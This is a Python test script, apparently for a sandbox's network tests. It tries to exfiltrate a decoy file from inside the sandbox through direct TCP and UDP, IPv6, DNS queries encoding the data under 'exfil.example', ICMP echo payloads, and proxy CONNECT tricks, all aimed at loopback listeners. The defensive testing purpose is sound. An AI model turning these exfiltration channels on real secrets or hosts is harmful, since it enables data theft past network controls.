"""The attacker inside `vault run` (tests/network.rs): reads a decoy from the project and tries
to send it out every way a program can, with the proxy variables or around them. It reports
what each attempt did, but the test judges from outside: what each listener received.

    python3 net_attacker.py CONFIG.json
"""
import json
import os
import socket
import sys
import urllib.request

cfg = json.load(open(sys.argv[1]))
decoy = open(os.path.join(cfg["project"], "decoy.txt"), "rb").read().strip()
report = {}


def err(e):
    return "%s: %s" % (type(e).__name__, e)


def tcp(label, family, addr):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(addr)
        s.sendall(b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(decoy), decoy))
        report[label] = "sent"
        s.close()
    except Exception as e:
        report[label] = err(e)


def udp(label, family, addr, payload):
    try:
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(0.3)
        s.sendto(payload, addr)
        report[label] = "sent"
        try:
            s.recvfrom(512)
            report[label] = "answered"
        except Exception:
            pass
    except Exception as e:
        report[label] = err(e)


def dns_query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split(b"."):
        q += bytes([len(label)]) + label
    return q + b"\x00\x00\x01\x00\x01"


def via_proxy(label, raw):
    """Speaks to the proxy the environment names, with `raw` as the request."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    report["proxy_env"] = proxy
    try:
        host, port = proxy.split("//", 1)[1].rstrip("/").rsplit(":", 1)
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(raw)
        got = b""
        while b"\r\n\r\n" not in got:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        report[label] = got.split(b"\r\n", 1)[0].decode(errors="replace")
        return s, got
    except Exception as e:
        report[label] = err(e)
        return None, b""


b, b6, u, u6, r = cfg["tcp"], cfg["tcp6"], cfg["udp"], cfg["udp6"], cfg["resolver"]
# Direct, by address and by name, around the proxy variables.
tcp("direct_ip", socket.AF_INET, ("127.0.0.1", b))
tcp("direct_name", socket.AF_INET, ("localhost", b))
tcp("direct_other_loopback", socket.AF_INET, ("127.0.0.2", b))
tcp("direct_ipv6", socket.AF_INET6, ("::1", b6))
udp("udp", socket.AF_INET, ("127.0.0.1", u), decoy)
udp("udp6", socket.AF_INET6, ("::1", u6), decoy)
udp("dns_to_a_resolver", socket.AF_INET, ("127.0.0.1", r), dns_query(decoy.lower() + b".exfil.example"))
try:
    socket.getaddrinfo(decoy.decode().lower() + ".exfil.example", 443)
    report["dns_system_resolver"] = "resolved"
except Exception as e:
    report["dns_system_resolver"] = err(e)
try:
    # An ICMP echo (an unprivileged ping socket) to the person's loopback carrying the decoy.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + decoy, ("127.0.0.1", 0))
    report["icmp"] = "sent"
except Exception as e:
    report["icmp"] = err(e)

# Through the proxy: a host not allowed, by CONNECT and as a plain request.
via_proxy("connect_not_allowed", b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (b, b))
via_proxy("connect_not_allowed_v6", b"CONNECT [::1]:%d HTTP/1.1\r\n\r\n" % b6)
via_proxy("plain_not_allowed", b"POST http://127.0.0.1:%d/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: %d\r\n\r\n%s" % (b, b, len(decoy), decoy))
# The allowed host's tunnel, its request naming the other host: it still lands on the allowed one.
a = cfg["allowed"]
s, got = via_proxy("tunnel_allowed", b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % a)
if s is not None and got.startswith(b"HTTP/1.1 200"):
    s.sendall(b"GET /host-mismatch HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % b)
    reply = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        reply += chunk
    report["tunnel_other_host"] = reply.split(b"\r\n", 1)[0].decode(errors="replace")
# The normal way: a tool that honours the variables reaches the allowed host.
try:
    with urllib.request.urlopen("http://127.0.0.1:%d/through-the-proxy" % a, timeout=10) as resp:
        report["allowed_status"] = resp.status
except Exception as e:
    report["allowed_status"] = err(e)

with open(cfg["report"], "w") as fh:
    json.dump(report, fh)
